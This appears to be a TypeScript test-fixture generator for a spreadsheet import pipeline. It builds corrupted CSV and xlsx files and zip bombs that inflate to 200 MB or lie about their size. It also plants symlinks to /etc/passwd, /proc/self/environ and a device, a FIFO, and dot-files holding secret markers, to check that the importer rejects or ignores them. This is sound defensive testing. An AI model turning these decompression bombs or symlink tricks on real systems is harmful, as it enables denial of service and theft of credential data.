    zip(without(base(), 'xl/worksheets/sheet1.xml')),
    { outcome: 'rejected' },
  );
  w.add(
    'bad-xlsx-no-shared-strings.xlsx',
    'xlsx: sharedStrings.xml missing while cells refer to it',
    zip(without(base(), 'xl/sharedStrings.xml')),
    { outcome: 'rejected' },
  );
  for (const [part, label] of [
    ['xl/styles.xml', 'styles'],
    ['[Content_Types].xml', 'content-types'],
    ['xl/_rels/workbook.xml.rels', 'workbook-rels'],
  ] as const) {
    const rows = penalties();
    w.add(
      `bad-xlsx-no-${label}.xlsx`,
      `xlsx: ${part} missing`,
      zip(without(xlsxParts([sheet(rows)]), part)),
      {
        outcome: 'loaded-or-rejected',
        rows: [rows.length],
      },
    );
  }
  w.add(
    'bad-xlsx-all-hidden.xlsx',
    'xlsx: its only sheet hidden',
    zip(xlsxParts([{ ...sheet(penalties()), state: 'hidden' }])),
    { outcome: 'rejected' },
  );
  w.add(
    'bad-xlsx-header-only.xlsx',
    'xlsx: header only',
    zip(xlsxParts([{ name: '行政处罚', rows: [{ cells: PENALTY_HEADER }] }])),
    { outcome: 'rejected' },
  );
  const ole = Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(4088, 0x20),
  ]);
  w.add('bad-old-excel.xls', '.xls (Excel 97–2003)', ole, { outcome: 'rejected' });
  w.add('bad-xls-renamed.xlsx', '.xls renamed .xlsx', Buffer.concat([ole, Buffer.from('renamed')]), {
    outcome: 'rejected',
  });
  w.add(
    'bad-zip-not-workbook.xlsx',
    'a zip that is no workbook',
    zip([{ name: 'readme.txt', data: Buffer.from('这不是工作簿') }]),
    { outcome: 'rejected' },
  );
  w.add(
    'bad-docx-renamed.xlsx',
    'a Word document renamed .xlsx',
    zip([
      { name: '[Content_Types].xml', data: Buffer.from(`${XML_HEAD}<Types/>`) },
      { name: 'word/document.xml', data: Buffer.from(`${XML_HEAD}<w:document/>`) },
    ]),
    { outcome: 'rejected' },
  );
  // two invalid rows with one row number (the issue: ON CONFLICT … cannot affect row a second time)
  {
    const rows = penalties();
    (rows[3] as string[])[0] = '';
    (rows[4] as string[])[0] = '';
    const spec: SheetSpec = {
      name: '行政处罚',
      rows: [{ cells: PENALTY_HEADER }, ...rows.map((cells, i) => (i === 4 ? { cells, r: 5 } : { cells }))],
    };
    w.add(
      'bad-xlsx-row-number-twice.xlsx',
      'xlsx: two invalid rows with one row number',
      zip(xlsxParts([spec])),
      {
        outcome: 'loaded-or-rejected',
        rows: [rows.length],
      },
    );
  }
  // NUL in a workbook: Excel's escape of it, and a raw NUL byte in the XML
  {
    const rows = penalties();
    (rows[6] as string[])[6] = '违法_x0000_事实';
    w.add('bad-xlsx-nul-escape.xlsx', 'xlsx: _x0000_ (NUL) in a cell', zip(xlsxParts([sheet(rows)])), {
      outcome: 'loaded-or-rejected',
      rows: [rows.length],
    });
    const raw = penalties();
    (raw[6] as string[])[6] = '违法\u0000事实';
    w.add(
      'bad-xlsx-nul-raw.xlsx',
      'xlsx: a NUL byte in the XML',
      zip(xlsxParts([sheet(raw)], { shared: false })),
      {
        outcome: 'loaded-or-rejected',
        rows: [raw.length],
      },
    );
  }
  {
    // a sheet whose bytes no longer match its CRC-32 yet inflate cleanly to the declared size: rows 10 on lost
    // (what a flipped bit in a deflate block does; found by seed 16). A reader that does not check the CRC
    // loads half a file.
    const rows = penalties();
    const parts = xlsxParts([sheet(rows)]);
    const part = parts.find((p) => p.name === 'xl/worksheets/sheet1.xml') as ZipPart;
    const xml = (part.data as Buffer).toString('utf8');
    const cut = xml.slice(0, xml.indexOf('<row r="10">')) + xml.slice(xml.indexOf('</sheetData>'));
    part.declaredCrc = crc32(part.data as Buffer);
    part.data = Buffer.from(cut);
    w.add('bad-xlsx-crc-mismatch.xlsx', 'xlsx: a part whose CRC-32 does not match', zip(parts), {
      outcome: 'rejected',
    });
  }
  {
    const rows = penalties();
    (rows[2] as string[])[6] = '违'.repeat(40_000);
    w.add('bad-xlsx-cell-40000.xlsx', 'xlsx: a cell of 40,000 characters', zip(xlsxParts([sheet(rows)])), {
      outcome: 'loaded-or-rejected',
      rows: [rows.length],
    });
  }
  await writeBombs(w, penalties);
}

const MB = 1 << 20;

async function writeBombs(w: Writer, penalties: (n?: number) => Rows): Promise<void> {
  {
    // sharedStrings inflating to 200 MB: the real strings first, then two million repeats
    const rows = penalties();
    const parts = xlsxParts([sheet(rows)]);
    const sst = parts.find((p) => p.name === 'xl/sharedStrings.xml') as ZipPart;
    const text = (sst.data as Buffer).toString('utf8');
    const open = text.slice(0, text.indexOf('</sst>'));
    sst.deflated = await deflateRepeated(
      open,
      '<si><t>重复的共享字符串重复的共享字符串</t></si>',
      200 * MB,
      '</sst>',
    );
    w.add('bad-bomb-shared-strings.xlsx', 'zip bomb: sharedStrings inflating to 200 MB', zip(parts), {
      outcome: 'rejected',
    });
  }
  {
    // one 200 MB cell, inline
    const rows = penalties();
    const parts = xlsxParts([sheet(rows)], { shared: false });
    const part = parts.find((p) => p.name === 'xl/worksheets/sheet1.xml') as ZipPart;
    const xml = (part.data as Buffer).toString('utf8');
    // at the end of row 2, as a 22nd column
    const at = xml.indexOf('</row>', xml.indexOf('<row r="2">'));
    part.deflated = await deflateRepeated(
      `${xml.slice(0, at)}<c r="V2" t="inlineStr"><is><t>`,
      '违法事实',
      200 * MB,
      `</t></is></c>${xml.slice(at)}`,
    );
    w.add('bad-bomb-one-cell.xlsx', 'zip bomb: one 200 MB cell', zip(parts), { outcome: 'rejected' });
  }
  {
    // styles.xml of three million cell formats
    const parts = xlsxParts([sheet(penalties())]);
    const styles = parts.find((p) => p.name === 'xl/styles.xml') as ZipPart;
    styles.deflated = await deflateRepeated(
      `${STYLES_OPEN}<cellXfs count="3000000">`,
      '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>',
      200 * MB,
      '</cellXfs></styleSheet>',
    );
    w.add('bad-bomb-styles.xlsx', 'zip bomb: a bloated styles.xml (200 MB)', zip(parts), {
      outcome: 'rejected',
    });
  }
  {
    // a sheet that says 2 KB and inflates to 64 MB
    const parts = xlsxParts([sheet(penalties())]);
    const part = parts.find((p) => p.name === 'xl/worksheets/sheet1.xml') as ZipPart;
    const xml = (part.data as Buffer).toString('utf8');
    const at = xml.indexOf('</sheetData>');
    part.deflated = await deflateRepeated(xml.slice(0, at), ' ', 64 * MB, xml.slice(at));
    part.declaredSize = 2048;
    w.add('bad-bomb-lying-size.xlsx', 'zip bomb: declared 2 KB, inflates to 64 MB', zip(parts), {
      outcome: 'rejected',
    });
  }
  {
    // a part that claims nearly 4 GB: a reader that sizes a buffer by it dies
    const rows = penalties();
    const parts = xlsxParts([sheet(rows)]);
    (parts.find((p) => p.name === 'xl/sharedStrings.xml') as ZipPart).declaredSize = 0xfff0_0000;
    w.add('bad-declared-4gb.xlsx', 'zip: a part that declares 4 GB', zip(parts), {
      outcome: 'loaded-or-rejected',
      rows: [rows.length],
    });
  }
}

/** 238- and 254-byte names (Linux allows 255): the reason and feedback files beside them must still be written. */
function writeLongNames(w: Writer, dropDir: string, penalties: (n?: number) => Rows): string[] {
  const preexisting: string[] = [];
  const faulty = penalties();
  for (const i of [2, 5]) (faulty[i] as string[])[0] = '';
  const loaded = longName('长名称甲', 238, '.csv');
  w.add(
    loaded,
    'name: 238 bytes, loaded with rows handed back',
    encode(csvText(PENALTY_HEADER, faulty), 'utf8'),
    {
      outcome: 'loaded',
      rows: faulty.length,
      quarantined: 2,
    },
  );
  const rejected = longName('长名称乙', 238, '.csv');
  w.add(
    rejected,
    'name: 238 bytes, rejected',
    encode(csvText(['姓名', '备注'], [['张三', '长名称乙']]), 'utf8'),
    {
      outcome: 'rejected',
    },
  );
  const longest = longName('长名称丙', 254, '.csv');
  w.add(longest, 'name: 254 bytes, rejected', encode(csvText(PENALTY_HEADER, []) + '\r\n', 'gb18030'), {
    outcome: 'rejected',
  });
  const longXlsx = longName('长名称丁', 238, '.xlsx');
  const rows = penalties();
  (rows[1] as string[])[0] = '';
  w.add(longXlsx, 'name: 238 bytes, a workbook with a row handed back', zip(xlsxParts([sheet(rows)])), {
    outcome: 'loaded',
    rows: rows.length,
    quarantined: 1,
  });
  // an earlier night left files of the same names: the new ones get longer names beside them
  for (const [sub, name] of [
    ['archive', loaded],
    ['rejected', rejected],
  ] as const) {
    const path = join(dropDir, sub, name);
    writeFileSync(path, '上一次的同名文件\r\n');
    preexisting.push(path);
  }
  return preexisting;
}

/** Symlinks (outside the folder, to the process's environment, to a device), a FIFO, dot-files. */
function writeNeverOpened(
  w: Writer,
  outsideDir: string,
  random: Random,
  penalties: (n?: number) => Rows,
): { secrets: string[]; childEnv: Record<string, string> } {
  const tag = Math.floor(random() * 0xffffffff).toString(16);
  const outsideMarker = `越界泄露标记${tag}`;
  const dotMarker = `点文件泄露标记${tag}`;
  const envSecret = `environ-secret-${tag}`;
  const secretFile = (marker: string) => {
    const rows = penalties();
    for (const row of rows) {
      row[6] = `${marker}：${row[6]}`;
      row[20] = marker;
    }
    return encode(csvText(PENALTY_HEADER, rows), 'utf8');
  };
  const outside = join(outsideDir, 'penalties-outside.csv');
  const outsideBytes = secretFile(outsideMarker);
  writeFileSync(outside, outsideBytes);
  const link = (name: string, kind: string, target: string, targetSha256?: string) => {
    symlinkSync(target, join(w.incoming, name));
    w.cases.push({
      name,
      kind,
      sha256: null,
      expect: targetSha256 ? { outcome: 'ignored', targetSha256 } : { outcome: 'ignored' },
    });
  };
  link('link-outside.csv', 'symlink to a file outside the drop folder', outside, sha256(outsideBytes));
  link('link-environ.csv', 'symlink to /proc/self/environ', '/proc/self/environ');
  link('link-passwd.csv', 'symlink to /etc/passwd', '/etc/passwd', sha256(readFileSync('/etc/passwd')));
  link('link-dev-zero.csv', 'symlink to a device (/dev/zero)', '/dev/zero');
  link('link-dangling.csv', 'symlink to nothing', join(outsideDir, 'gone.csv'));
  execFileSync('mkfifo', [join(w.incoming, 'fifo.csv')]);
  w.cases.push({ name: 'fifo.csv', kind: 'a FIFO', sha256: null, expect: { outcome: 'ignored' } });
  for (const name of ['.hidden-penalties.csv', '.DS_Store']) {
    const bytes =
      name === '.DS_Store'
        ? Buffer.concat([Buffer.from('\0\0\0\x01Bud1'), secretFile(dotMarker)])
        : secretFile(dotMarker);
    writeFileSync(join(w.incoming, name), bytes);
    w.cases.push({
      name,
      kind: 'dot-file',
      sha256: null,
      expect: { outcome: 'ignored', targetSha256: sha256(bytes) },
    });
  }
  return {
    secrets: [outsideMarker, dotMarker, envSecret, 'root:x:0:0'],
    childEnv: { HOSTILE_ENV_SECRET: envSecret },
  };
}

/** Random truncations and byte flips of valid CSV and xlsx files. */
async function writeRandomDamage(
  w: Writer,
  random: Random,
  penalties: (n?: number) => Rows,
  licences: (n?: number) => Rows,
): Promise<void> {
  const quoted = penalties();
  // cells with the delimiter, quotes and line breaks: a cut inside one leaves a quote open
  quoted.forEach((row, i) => {
    if (i % 3 === 0) row[6] = `经查，"${row[6]}"，\r\n情节较轻`;
  });
  const csvBases: { label: string; bytes: Buffer; delimiter: number }[] = [
    { label: 'utf8', bytes: encode(csvText(PENALTY_HEADER, penalties()), 'utf8'), delimiter: 0x2c },
    {
      label: 'utf8-bom-licences',
      bytes: encode(csvText(LICENCE_HEADER, licences()), 'utf8-bom'),
      delimiter: 0x2c,
    },
    { label: 'gb18030', bytes: encode(csvText(PENALTY_HEADER, penalties()), 'gb18030'), delimiter: 0x2c },
    { label: 'quoted', bytes: encode(csvText(PENALTY_HEADER, quoted), 'utf8'), delimiter: 0x2c },
    {
      label: 'gb18030-semicolon',
      bytes: encode(csvText(PENALTY_HEADER, penalties(), ';'), 'gb18030'),
      delimiter: 0x3b,
    },
  ];
  const xlsxBases: { label: string; bytes: Buffer; rows: number }[] = [];
  {
    const rows = penalties();
    xlsxBases.push({
      label: 'exceljs',
      bytes: await exceljsWorkbook(PENALTY_HEADER, rows, '行政处罚'),
      rows: rows.length,
    });
    const shared = licences();
    xlsxBases.push({
      label: 'shared',
      bytes: zip(
        xlsxParts([
          { name: '行政许可', rows: [{ cells: LICENCE_HEADER }, ...shared.map((cells) => ({ cells }))] },
        ]),
      ),
      rows: shared.length,
    });
  }
  const int = (n: number) => Math.floor(random() * n);
  for (let i = 0; i < 50; i++) {
    const base = csvBases[i % csvBases.length]!;
    const bytes = Buffer.from(base.bytes.subarray(0, 1 + int(base.bytes.length - 1)));
    w.add(
      `rnd-csv-cut-${pad(i)}-${base.label}.csv`,
      `CSV truncated at byte ${bytes.length}`,
      bytes,
      damagedCsvExpectation(bytes, base.delimiter),
    );
  }
  for (let i = 0; i < 50; i++) {
    const base = csvBases[i % csvBases.length]!;
    const bytes = flip(base.bytes, random, 1 + int(3));
    w.add(
      `rnd-csv-flip-${pad(i)}-${base.label}.csv`,
      'CSV with random byte flips',
      bytes,
      damagedCsvExpectation(bytes, base.delimiter),
    );
  }
  for (let i = 0; i < 30; i++) {
    const base = xlsxBases[i % xlsxBases.length]!;
    const bytes = Buffer.from(base.bytes.subarray(0, 1 + int(base.bytes.length - 1)));
    w.add(`rnd-xlsx-cut-${pad(i)}-${base.label}.xlsx`, `xlsx truncated at byte ${bytes.length}`, bytes, {
      outcome: 'loaded-or-rejected',
      rows: [base.rows],
    });
  }
  for (let i = 0; i < 30; i++) {
    const base = xlsxBases[i % xlsxBases.length]!;
    w.add(
      `rnd-xlsx-flip-${pad(i)}-${base.label}.xlsx`,
      'xlsx with random byte flips',
      flip(base.bytes, random, 1 + int(3)),
      {
        outcome: 'loaded-or-rejected',
        rows: [base.rows],
      },
    );
  }
}

function pad(n: number): string {
  return String(n).padStart(3, '0');
}

function flip(bytes: Buffer, random: Random, count: number): Buffer {
  const out = Buffer.from(bytes);
  for (let k = 0; k < count; k++) {
    const at = Math.floor(random() * out.length);
    out[at] = (out[at] as number) ^ (1 + Math.floor(random() * 255));
  }
  return out;
}
